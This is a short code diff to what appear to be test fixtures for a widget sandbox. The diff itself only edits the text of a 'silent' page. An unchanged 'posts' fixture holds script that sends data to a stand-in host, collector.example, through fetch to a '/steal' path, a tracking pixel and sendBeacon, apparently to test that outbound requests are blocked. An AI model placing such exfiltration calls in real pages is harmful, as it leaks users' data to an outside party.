@@ -121,7 +121,7 @@ export const widgetPages: Readonly<Record<string, string>> = {
   posts: appPage(
     `${hello} ready().then(() => { fetch('https://collector.example/steal?key=1', { method: 'POST', body: 'x' }).catch(() => undefined); new Image().src = 'https://collector.example/pixel'; navigator.sendBeacon('https://collector.example/beacon', 'x'); });`,
   ),
-  silent: '<!doctype html><p>Nobody speaks here.</p>',
+  silent: '<!doctype html><p>Silence.</p>',
   throws: appPage("throw new TypeError('The chart library is missing');"),
   blank: appPage('ready();'),
   noisy: appPage(`${hello} ready().then(() => { for (let i = 0; i < 100000; i += 1) console.error('error ' + i); });`),
